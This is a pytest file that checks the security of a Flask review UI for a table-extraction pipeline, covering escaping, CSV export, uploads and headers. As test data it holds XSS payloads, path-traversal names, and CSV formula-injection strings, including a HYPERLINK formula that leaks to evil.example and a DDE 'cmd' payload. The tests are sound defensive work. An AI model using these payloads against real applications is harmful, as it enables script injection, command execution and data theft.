"""The review page through Flask's test client, over a local stack (moto) with seeded jobs.

Jobs are written with the pipeline's own store and result builder, so each test controls what a
document "contained" (cell texts holding HTML, failed pages, spans, low confidences) without
running the models; one test uploads through the page and lets the pipeline fail the job."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import urllib.error
import urllib.request
import uuid
from html.parser import HTMLParser

import pytest
from PIL import Image

from doctables.client import Client
from doctables.local.serve import LocalService
from doctables.local.ui.server import create_app, safe_upload_name, start_ui
from doctables.model.layout import PageLayout
from doctables.model.tables import Table
from doctables.outputs.exports import to_csv
from doctables.pipeline.jobs import job_id_for
from doctables.pipeline.page_bundles import Bundle, compress_layout
from doctables.pipeline.results import build_result, result_key
from doctables.pipeline.store import JobStatus, SourceObject

SCRIPT = "<script>alert(1)</script>"
LIMIT = 4096  # the upload limit of the app under test, in bytes


@pytest.fixture(scope="module")
def service():
    with LocalService(port=0, interval=0.05) as running:
        yield running


@pytest.fixture(scope="module")
def client(service) -> Client:
    return Client.local(service.endpoint)


@pytest.fixture(scope="module")
def app(client):
    app = create_app(client, max_upload_bytes=LIMIT)
    app.config["TESTING"] = True
    return app


@pytest.fixture
def web(app):
    return app.test_client()


# --- seeding -------------------------------------------------------------------------------


def cell(row, col, text, box, *, rs=1, cs=1, header=False, confidence=0.97):
    return {"row": row, "col": col, "row_span": rs, "col_span": cs, "text": text, "bbox": box,
            "confidence": confidence, "is_header": header, "words": []}


def script_table(table_id: str = "0001-01", page: int = 1, top: float = 100.0) -> dict:
    """A 4 x 3 table: a header cell holding a script tag, a merged header over two columns, a
    cell holding an image tag, a row-spanning cell and one low-confidence cell."""
    y = [top + 20 * i for i in range(5)]
    x = [72.0, 200.0, 330.0, 460.0]
    cells = [
        cell(0, 0, SCRIPT, [x[0], y[0], x[1], y[2]], rs=2, header=True),
        cell(0, 1, "Revenue & <b>costs</b>", [x[1], y[0], x[3], y[1]], cs=2, header=True),
        cell(1, 1, "Q1", [x[1], y[1], x[2], y[2]], header=True),
        cell(1, 2, "Q2", [x[2], y[1], x[3], y[2]], header=True),
        cell(2, 0, '<img src=x onerror="alert(2)">', [x[0], y[2], x[1], y[3]]),
        cell(2, 1, "1,204.5", [x[1], y[2], x[2], y[3]]),
        cell(2, 2, "1,287.3", [x[2], y[2], x[3], y[3]], confidence=0.31),
        cell(3, 0, "Human Resources", [x[0], y[3], x[1], y[4]]),
        cell(3, 1, "19", [x[1], y[3], x[2], y[4]]),
    ]
    return {"table_id": table_id, "page": page, "bbox": [x[0], y[0], x[3], y[4]],
            "bbox_norm": [x[0] / 612, y[0] / 792, x[3] / 612, y[4] / 792], "page_width": 612.0,
            "page_height": 792.0, "rows": 4, "columns": 3, "header_rows": 2, "confidence": 0.95,
            "structure_confidence": 0.9, "cells": cells}


def png(width: int = 306, height: int = 396) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(buffer, format="PNG")
    return buffer.getvalue()


def seed(client: Client, name: str, tables: list[dict], *, pages: int = 1,
         failed_pages: dict[int, tuple[str, str]] | None = None,
         status: JobStatus = JobStatus.SUCCEEDED, error: tuple[str, str] | None = None,
         finish: bool = True) -> str:
    """A job as the pipeline leaves it: job, pages, tables, page images, result document."""
    failed_pages = failed_pages or {}
    key = f"{client.names.upload_prefix}{name}"
    source = SourceObject(client.names.bucket, key, None, uuid.uuid4().hex)
    job_id = job_id_for(source)
    store = client.store
    store.create_job(job_id, source)
    if not finish and pages == 0:
        return job_id
    store.start_job(job_id, pages)
    for page in range(1, pages + 1):
        on_page = [t for t in tables if t["page"] == page]
        client.aws.s3.put_object(Bucket=client.names.bucket, Key=f"pages/{job_id}/{page:05d}.png", Body=png())
        store.settle_page(job_id, page, done=page not in failed_pages, tables=[Table.from_dict(t) for t in on_page],
                          size=(612.0, 792.0, 0), error=failed_pages.get(page))
        if not finish and page == 1:
            return job_id
    store.finish_job(job_id, status, error)
    job = store.get_job(job_id)
    records, tables = store.job_contents(job_id)
    result = build_result(job, records, tables)
    client.aws.s3.put_object(Bucket=client.names.bucket, Key=result_key(job_id),
                             Body=result.to_json().encode())
    store.mark_announced(job_id, result_key(job_id))
    return job_id


@pytest.fixture(scope="module")
def script_job(client) -> str:
    return seed(client, f"{SCRIPT}.pdf", [script_table()])


class Collector(HTMLParser):
    """Start tags with their attributes, and every script element's source."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[dict[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append(dict(attrs))

    def find(self, tag: str, **wanted: str) -> list[dict[str, str | None]]:
        return [a for t, a in self.tags if t == tag and all(a.get(k.replace("_", "-")) == v for k, v in wanted.items())]


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    return collector


def assert_only_own_scripts(html: str) -> None:
    """The page's only script elements are its own static files, and no tag carries an event
    handler attribute: nothing from a document became markup."""
    page = parse(html)
    assert page.scripts and all((s.get("src") or "").startswith("/static/") for s in page.scripts), page.scripts
    assert not page.find("img", src="x")
    for tag, attrs in page.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)


# --- jobs list -----------------------------------------------------------------------------


def test_jobs_json_newest_first_with_progress(web, client):
    older = seed(client, "older.pdf", [], pages=1)
    time.sleep(0.01)
    newer = seed(client, "newer.pdf", [], pages=2, failed_pages={2: ("PAGE_FAILED_REPEATEDLY", "boom")},
                 status=JobStatus.PARTIALLY_SUCCEEDED)
    answer = web.get("/api/jobs")
    assert answer.status_code == 200 and answer.mimetype == "application/json"
    jobs = answer.get_json()["jobs"]
    ids = [j["job_id"] for j in jobs]
    assert ids.index(newer) < ids.index(older)
    listed = jobs[ids.index(newer)]
    assert listed["status"] == "PARTIALLY_SUCCEEDED" and listed["file"] == "newer.pdf"
    assert listed["pages"] == {"total": 2, "done": 1, "failed": 1}
    assert listed["result_ready"] and listed["url"] == f"/jobs/{newer}"
    assert isinstance(listed["duration_s"], float) and listed["duration_s"] >= 0
    single = web.get(f"/api/jobs/{newer}").get_json()
    assert single["job_id"] == newer and single["pages"]["failed"] == 1


def test_failed_job_error_in_list(web, client):
    job_id = seed(client, "broken.pdf", [], pages=1, failed_pages={1: ("PAGE_UNREADABLE", "cannot read")},
                  status=JobStatus.FAILED, error=("ALL_PAGES_FAILED", "every page failed <b>x</b>"))
    jobs = {j["job_id"]: j for j in web.get("/api/jobs").get_json()["jobs"]}
    assert jobs[job_id]["error"] == {"code": "ALL_PAGES_FAILED", "message": "every page failed <b>x</b>"}
    html = web.get("/").get_data(as_text=True)
    assert "ALL_PAGES_FAILED" in html and "every page failed &lt;b&gt;x&lt;/b&gt;" in html


def test_index_has_upload_control_and_links(web, script_job):
    answer = web.get("/")
    assert answer.status_code == 200
    html = answer.get_data(as_text=True)
    page = parse(html)
    assert page.find("input", type="file", id="file-input")
    assert page.find("a", href=f"/jobs/{script_job}")
    assert_only_own_scripts(html)


def test_script_file_name_is_escaped(web, script_job):
    for path in ("/", f"/jobs/{script_job}"):
        html = web.get(path).get_data(as_text=True)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;.pdf" in html, path
        assert SCRIPT not in html, path
        assert_only_own_scripts(html)
    listed = {j["job_id"]: j for j in web.get("/api/jobs").get_json()["jobs"]}[script_job]
    assert listed["file"] == f"{SCRIPT}.pdf"  # JSON keeps the text; the page's JS sets it as textContent


# --- a job ---------------------------------------------------------------------------------


def test_job_page_overlay_and_tables(web, script_job):
    answer = web.get(f"/jobs/{script_job}")
    assert answer.status_code == 200
    html = answer.get_data(as_text=True)
    page = parse(html)
    assert page.find("img", src=f"/jobs/{script_job}/pages/1.png")
    assert page.find("svg", viewbox="0 0 612 792")
    assert len(page.find("rect", data_table_box="0001-01")) == 1
    overlay_cells = [a for t, a in page.tags if t == "rect" and a.get("data-cell")]
    table_cells = [a for t, a in page.tags if t in ("td", "th") and a.get("data-cell")]
    assert len(overlay_cells) == len(table_cells) == 9
    assert {a["data-cell"] for a in overlay_cells} == {a["data-cell"] for a in table_cells}
    # spans, header cells and low confidence, in both views
    assert page.find("th", data_cell="0001-01:0:0", rowspan="2")
    assert page.find("th", data_cell="0001-01:0:1", colspan="2")
    assert "header" in page.find("rect", data_cell="0001-01:0:0")[0]["class"]
    assert "span" in page.find("rect", data_cell="0001-01:0:1")[0]["class"]
    assert "low" in page.find("rect", data_cell="0001-01:2:2")[0]["class"]
    assert "low" in page.find("td", data_cell="0001-01:2:2")[0]["class"]
    # the cell texts, escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=&#34;alert(2)&#34;&gt;" in html
    assert "Revenue &amp; &lt;b&gt;costs&lt;/b&gt;" in html
    assert "Human Resources" in html
    assert_only_own_scripts(html)
    # every download
    for fmt in ("json", "textract", "xlsx", "md", "html"):
        assert page.find("a", href=f"/jobs/{script_job}/export.{fmt}")
    assert page.find("a", href=f"/jobs/{script_job}/tables/0001-01.csv")


def test_page_image(web, script_job):
    answer = web.get(f"/jobs/{script_job}/pages/1.png")
    assert answer.status_code == 200 and answer.mimetype == "image/png"
    assert answer.data.startswith(b"\x89PNG")


def test_exports(web, client, script_job):
    result = client.result(script_job)
    csv = web.get(f"/jobs/{script_job}/tables/0001-01.csv")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert "attachment" in csv.headers["Content-Disposition"]
    assert csv.get_data(as_text=True) == to_csv(result.tables[0])
    expected = {"json": "application/json", "textract": "application/json", "md": "text/markdown",
                "html": "text/html", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
    for fmt, mimetype in expected.items():
        answer = web.get(f"/jobs/{script_job}/export.{fmt}")
        assert answer.status_code == 200, fmt
        assert answer.mimetype == mimetype, fmt
        assert answer.headers["Content-Disposition"].startswith("attachment"), fmt
        assert answer.data, fmt
    assert web.get(f"/jobs/{script_job}/export.json").get_json()["job_id"] == script_job
    assert web.get(f"/jobs/{script_job}/export.xlsx").data[:2] == b"PK"
    html_export = web.get(f"/jobs/{script_job}/export.html").get_data(as_text=True)
    assert SCRIPT not in html_export


def test_csv_download_neutralises_formulas(web, client):
    """Issue 15, finding 5: a cell a spreadsheet would run is downloaded with a leading quote."""
    table = script_table()
    formulas = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    body = [c for c in table["cells"] if not c["is_header"]]
    for target, text in zip(body, [*formulas, "-12.5"]):
        target["text"] = text
    job_id = seed(client, "formulas.pdf", [table])
    answer = web.get(f"/jobs/{job_id}/tables/0001-01.csv")
    assert answer.status_code == 200
    cells = [text for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for text in row]
    assert all("'" + text in cells and text not in cells for text in formulas)
    assert "-12.5" in cells  # a number stays a number


def test_failed_pages_and_job_error_are_explained(web, client):
    partial = seed(client, "partial.pdf", [script_table()], pages=2,
                   failed_pages={2: ("PAGE_FAILED_REPEATEDLY", "the table stage failed 3 times <i>x</i>")},
                   status=JobStatus.PARTIALLY_SUCCEEDED)
    html = web.get(f"/jobs/{partial}").get_data(as_text=True)
    assert 'id="failed-pages"' in html and "Page 2" in html
    assert "PAGE_FAILED_REPEATEDLY" in html and "the table stage failed 3 times &lt;i&gt;x&lt;/i&gt;" in html

    failed = seed(client, "failed.pdf", [], pages=1, failed_pages={1: ("PAGE_UNREADABLE", "page 1 is damaged")},
                  status=JobStatus.FAILED, error=("ALL_PAGES_FAILED", "no page could be read"))
    html = web.get(f"/jobs/{failed}").get_data(as_text=True)
    assert 'id="job-error"' in html and "ALL_PAGES_FAILED" in html and "no page could be read" in html
    assert "PAGE_UNREADABLE" in html and "page 1 is damaged" in html


def test_unfinished_job_page_polls(web, client):
    job_id = seed(client, "running.pdf", [script_table()], pages=3, finish=False)
    html = web.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert 'data-poll="1"' in html and 'id="waiting"' in html
    assert web.get(f"/api/jobs/{job_id}").get_json()["status"] == "RUNNING"
    assert web.get(f"/jobs/{job_id}/export.json").status_code == 404


def test_tables_continued_across_pages_are_linked(web, client):
    first = script_table("0001-01", page=1, top=640.0)
    second = script_table("0002-01", page=2, top=60.0)
    job_id = seed(client, "continued.pdf", [first, second], pages=2)
    html = web.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert 'href="#table-0002-01"' in html and 'href="#table-0001-01"' in html
    assert "Continues on page 2" in html
    merged = web.get(f"/jobs/{job_id}/tables/0001-01-merged.csv")
    assert merged.status_code == 200 and "Human Resources" in merged.get_data(as_text=True)


# --- validation ----------------------------------------------------------------------------


@pytest.mark.parametrize("job_id", ["nope", "0" * 31, "0" * 33, "A" * 32, "g" * 32, "0" * 32,
                                    "../results", "%2e%2e%2fresults"])
def test_invalid_or_unknown_job_ids_are_404(web, job_id):
    assert web.get(f"/jobs/{job_id}").status_code == 404
    api = web.get(f"/api/jobs/{job_id}")
    assert api.status_code == 404 and api.is_json
    assert web.get(f"/jobs/{job_id}/pages/1.png").status_code == 404
    assert web.get(f"/jobs/{job_id}/export.json").status_code == 404


def test_path_traversal_is_refused(web, script_job, client):
    # a result document of another job is not reachable through this job's routes
    other = seed(client, "other.pdf", [], pages=1)
    attempts = [
        f"/jobs/{script_job}/pages/0.png",
        f"/jobs/{script_job}/pages/2.png",  # past the job's page count
        f"/jobs/{script_job}/pages/-1.png",
        f"/jobs/{script_job}/pages/1.json",
        f"/jobs/{script_job}/pages/..%2f..%2fresults%2f{other}.json",
        f"/jobs/{script_job}/pages/%2e%2e/%2e%2e/results/{other}.png",
        f"/jobs/{script_job}/pages/1.png/../../../results/{other}.json",
        f"/jobs/{script_job}/tables/..%2f0001-01.csv",
        f"/jobs/{script_job}/tables/0009-01.csv",
        f"/jobs/{script_job}/tables/0001-01%2f..%2f..%2fx.csv",
        f"/jobs/{script_job}/export.exe",
        f"/jobs/{script_job}/export.json%00",
        "/static/../server.py",
        "/static/%2e%2e/server.py",
        "/static/..%2fserver.py",
        "/jobs/%2e%2e%2f%2e%2e%2fresults",
    ]
    for path in attempts:
        code = web.get(path).status_code
        assert code in (400, 404), (path, code)


def test_safe_upload_name():
    assert safe_upload_name("report.pdf") == "report.pdf"
    assert safe_upload_name("Bericht März 2024.pdf") == "Bericht März 2024.pdf"
    for hostile in ("../../etc/passwd", "..\\..\\boot.ini", "/abs/path.pdf", "a/../../b.pdf", "..", ".", "",
                    None, " .. ", "\x00\x01", "dir/", ".hidden.pdf"):
        name = safe_upload_name(hostile)
        assert name and "/" not in name and "\\" not in name, (hostile, name)
        assert not name.startswith(".") and ".." not in name.split("_"), (hostile, name)
        assert all(ch >= " " for ch in name), (hostile, name)
    assert safe_upload_name("../../etc/passwd").endswith("passwd")
    assert safe_upload_name("a\nb\tc\u202e.pdf") == "a b c .pdf"
    assert safe_upload_name(f"{SCRIPT}.pdf") == "<script>alert(1)<_script>.pdf"  # visible, escaped when shown
    long = safe_upload_name("x" * 500 + ".pdf")
    assert long.endswith(".pdf") and len(long.encode()) <= 200
    wide = safe_upload_name("ä" * 300 + ".pdf")
    assert wide.endswith(".pdf") and len(wide.encode()) <= 200


# --- uploads -------------------------------------------------------------------------------

UPLOAD_HEADERS = {"X-Doctables-Upload": "1"}


def upload(web, data: bytes, name: str, **headers):
    return web.post("/api/uploads", data={"file": (io.BytesIO(data), name)},
                    headers={**UPLOAD_HEADERS, **headers}, content_type="multipart/form-data")


def test_upload_goes_under_the_prefix_and_its_job_appears(web, client):
    name = f"{SCRIPT}.pdf"
    answer = upload(web, b"this is not a document at all", name)
    assert answer.status_code == 201, answer.get_data(as_text=True)
    data = answer.get_json()
    safe = safe_upload_name(name)
    assert data["key"] == f"{client.names.upload_prefix}{safe}" and data["name"] == safe
    stored = client.aws.s3.get_object(Bucket=client.names.bucket, Key=data["key"])["Body"].read()
    assert stored == b"this is not a document at all"
    job = client.wait(data["job_id"], timeout=60, poll=0.1)  # the pipeline runs it: not a document
    assert job.status.value == "FAILED" and job.error_code == "NOT_A_DOCUMENT"
    html = web.get("/").get_data(as_text=True)
    assert data["job_id"] in html and "&lt;script&gt;alert(1)&lt;_script&gt;.pdf" in html
    assert_only_own_scripts(html)
    page = web.get(f"/jobs/{data['job_id']}").get_data(as_text=True)
    assert "NOT_A_DOCUMENT" in page
    assert_only_own_scripts(page)


def test_traversal_names_stay_under_the_prefix(web, client):
    answer = upload(web, b"%PDF-1.4 nothing", "../../results/evil.json")
    assert answer.status_code == 201
    key = answer.get_json()["key"]
    assert key.startswith(client.names.upload_prefix) and "/" not in key[len(client.names.upload_prefix):]


def test_upload_over_the_limit_is_413(web, app):
    assert app.config["MAX_CONTENT_LENGTH"] is not None and app.config["MAX_CONTENT_LENGTH"] >= LIMIT
    answer = upload(web, b"x" * (LIMIT + 1), "big.pdf")
    assert answer.status_code == 413 and answer.is_json
    assert "limit" in answer.get_json()["message"]
    far = upload(web, b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1), "bigger.pdf")
    assert far.status_code == 413
    assert upload(web, b"x" * LIMIT, "exactly.pdf").status_code == 201


def test_upload_needs_the_page_itself(web):
    plain = web.post("/api/uploads", data={"file": (io.BytesIO(b"x"), "a.pdf")}, content_type="multipart/form-data")
    assert plain.status_code == 403
    assert upload(web, b"x", "a.pdf", Origin="http://evil.example").status_code == 403
    assert upload(web, b"x", "a.pdf", **{"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert upload(web, b"x", "a.pdf", Origin="http://localhost").status_code == 201
    empty = web.post("/api/uploads", data={}, headers=UPLOAD_HEADERS, content_type="multipart/form-data")
    assert empty.status_code == 400
    assert web.get("/api/uploads").status_code == 405


# --- headers -------------------------------------------------------------------------------


def test_security_headers_and_no_cors(web, script_job):
    paths = ["/", "/api/jobs", f"/jobs/{script_job}", f"/jobs/{script_job}/pages/1.png",
             f"/jobs/{script_job}/export.html", "/static/review.css", "/jobs/nope"]
    for path in paths:
        answer = web.get(path, headers={"Origin": "http://evil.example"})
        assert not [h for h, _ in answer.headers if h.lower().startswith("access-control-")], path
        csp = answer.headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "'unsafe-inline'" not in csp and "*" not in csp, path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
    preflight = web.open("/api/uploads", method="OPTIONS",
                         headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"})
    assert "Access-Control-Allow-Origin" not in preflight.headers


def test_page_has_no_inline_script_or_style(web, script_job):
    for path in ("/", f"/jobs/{script_job}"):
        html = web.get(path).get_data(as_text=True)
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path
        assert " style=" not in html and "<style" not in html, path


# --- the server ----------------------------------------------------------------------------


def test_start_ui_on_a_free_port(client):
    ui = start_ui(client, host="127.0.0.1", port=0, max_upload_bytes=LIMIT)
    try:
        port = int(re.fullmatch(r"http://127\.0\.0\.1:(\d+)/", ui.url).group(1))
        assert port == ui.port and port > 0
        with urllib.request.urlopen(f"{ui.url}api/jobs", timeout=10) as answer:
            assert answer.status == 200 and "jobs" in json.loads(answer.read())
        # a name other than loopback's (DNS rebinding) is not answered
        request = urllib.request.Request(f"{ui.url}api/jobs", headers={"Host": f"evil.example:{port}"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code == 400
    finally:
        ui.stop()


def test_every_answer_names_its_charset_once(web, script_job):
    paths = ["/", f"/jobs/{script_job}", f"/jobs/{script_job}/tables/0001-01.csv", "/api/jobs",
             *[f"/jobs/{script_job}/export.{fmt}" for fmt in ("json", "md", "html", "xlsx")], "/jobs/" + "0" * 32]
    for path in paths:
        content_type = web.get(path).headers["Content-Type"]
        assert content_type.count("charset") <= 1, (path, content_type)
    assert web.get(f"/jobs/{script_job}/export.md").headers["Content-Type"] == "text/markdown; charset=utf-8"


def test_page_images_of_a_range_bundle(web, client):
    """A job converted since renderings share an object per range: each page read from it."""
    job_id = seed(client, "bundled.pdf", [], pages=2)
    store = client.store
    client.aws.dynamodb.update_item(  # the range size conversion records on the job
        TableName=client.names.table, Key={"pk": {"S": f"JOB#{job_id}"}, "sk": {"S": "JOB"}},
        UpdateExpression="SET range_pages = :r", ExpressionAttributeValues={":r": {"N": "50"}})
    assert store.get_job(job_id).range_pages == 50
    bundle = Bundle(job_id, 1)
    images = {1: png(300, 400), 2: png(200, 100)}
    layout = PageLayout(2, 612.0, 792.0, 0, 144, 200, 100, [], [])
    for page, image in images.items():
        bundle.add(page, image, compress_layout(layout.to_json().encode()))
    body, _places = bundle.body()
    client.aws.s3.put_object(Bucket=client.names.bucket, Key=bundle.key, Body=body)
    for page, image in images.items():
        answer = web.get(f"/jobs/{job_id}/pages/{page}.png")
        assert answer.status_code == 200 and answer.data == image
    assert web.get(f"/jobs/{job_id}").status_code == 200
